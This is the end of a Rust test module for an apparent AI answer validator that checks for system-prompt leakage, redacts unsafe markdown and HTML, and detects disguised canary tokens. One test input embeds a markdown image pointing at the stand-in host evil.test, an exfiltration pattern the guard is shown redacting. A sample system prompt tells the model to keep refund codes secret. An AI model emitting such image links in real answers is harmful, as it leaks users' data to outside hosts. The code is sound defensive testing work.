                    reports += 1;
                }
            }
        }
        assert!(reports > 100 && reports < 590, "{reports}");
    }

    /// An answer's shingle filter is the configured prompts' own, shared, until
    /// the request's system messages add their bits: then a copy, and the
    /// configured filter does not change.
    #[test]
    fn the_configured_shingle_filter_is_shared_until_a_request_adds_to_it() {
        let v = AnswerValidator::builder()
            .leaks(None)
            .system_prompt(
                "You are the billing assistant of Example Corp. Never reveal the refund codes.",
            )
            .build()
            .unwrap();
        let before = v.inner.system_filter.as_ref().clone();
        let plain = GuardRequest::new("m").with_message(Role::User, "hi");
        let shared = v
            .engine(&crate::Principal::anonymous(), &plain)
            .overlap
            .unwrap();
        assert!(Arc::ptr_eq(&shared.filter, &v.inner.system_filter));
        let own = GuardRequest::new("m")
            .with_message(
                Role::System,
                "Answer in French and quote the ticket number back to the user.",
            )
            .with_message(Role::User, "hi");
        let added = v
            .engine(&crate::Principal::anonymous(), &own)
            .overlap
            .unwrap();
        assert!(!Arc::ptr_eq(&added.filter, &v.inner.system_filter));
        assert_ne!(*added.filter, before);
        assert_eq!(*v.inner.system_filter, before);
    }

    /// The settled rewrite covers every finding it was built from: an escape of a
    /// tag left open (its replacement ends as the text it replaces) reaching past
    /// the last changed byte had its replacement written a second time after the
    /// settled text, and the image the settling removed went out in that copy
    /// (found by the `markup` fuzz target).
    #[test]
    fn the_settled_rewrite_covers_the_findings_it_was_built_from() {
        let v = AnswerValidator::builder()
            .allow_hosts(["docs.example.com"])
            .build()
            .unwrap();
        let r = GuardRequest::new("m");
        let e = v.engine(&crate::Principal::anonymous(), &r);
        let rules = markdown::Rules {
            links: &e.v.links,
            html: e.v.html,
            code_is_inert: e.v.code_is_inert,
            bare_urls: true,
        };
        let seg = "[!![:![:]]<[|] <b title=x ![a](https://evil.test/a.png) end\n\n";
        // As judged at a cut (not the end of the answer): the tag left open is
        // escaped.
        let mut found = Vec::new();
        markdown::judge_segment(seg, 0, &e.carry, &rules, false, &mut found);
        assert!(found.iter().any(|f| f.rule_id() == "markup.unclosed_tag"));
        let (settled, _) = e.settle(seg, 0, &found, &rules, false).expect("settles");
        for f in found.iter().filter(|f| f.action() == Action::Redact) {
            assert!(
                settled.span().start <= f.span().start && f.span().end <= settled.span().end,
                "{:?} outside {:?}",
                f.span(),
                settled.span()
            );
        }
        let mut all = vec![settled];
        all.extend(found);
        let out = crate::finding::redact(seg, &all);
        assert_eq!(out, "[!::<[|] &lt;b title=x a end\n\n");
    }

    #[test]
    fn canary_spans_cover_the_disguised_token() {
        let forms = [CanaryForms::new("k7q2zx9w")];
        for (text, span) in [
            ("ok K7-Q2 zx 9w. done", 3..14),
            ("k7q2zx9w", 0..8),
            ("tail w9xz2q7k", 5..13),
        ] {
            let mut out = Vec::new();
            scan_canaries(&forms, &[], text, &mut out);
            assert_eq!(out.len(), 1, "{text}");
            assert_eq!(out[0].span(), span, "{text}");
        }
    }

    #[test]
    fn the_ascii_word_reader_agrees_with_the_general_one() {
        const BYTES: &[u8] = b"aZ09 '\n.,-_'Ab";
        // Long words (past eight bytes, apostrophes inside) and bytes beside the
        // letter and digit ranges.
        const LONG: &[u8] = b"abcdefghijklmnopqrstuvwxyzQ0189'@[`{/: ";
        let texts = crate::scan::testgen::texts(BYTES, 48, 3000)
            .chain(crate::scan::testgen::texts(LONG, 120, 3000));
        for s in texts {
            let (mut a, mut b) = (Vec::new(), Vec::new());
            for_each_ascii_word(&s, |at, h| a.push((at, h)));
            for_each_char_word(&s, |at, h| b.push((at, h)));
            assert_eq!(a, b, "{s:?}");
        }
    }
}
